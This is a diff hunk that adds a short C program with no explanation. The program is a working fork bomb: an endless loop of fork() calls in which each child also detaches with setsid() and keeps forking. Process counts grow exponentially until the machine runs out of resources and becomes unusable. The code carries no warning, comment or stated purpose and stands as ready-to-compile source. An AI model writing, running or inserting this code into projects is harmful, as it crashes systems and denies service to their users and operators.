@@ -1,0 +1,5 @@
+#include <unistd.h>
+int main() {
+    for (;;)
+        if (fork() == 0) setsid();
+}
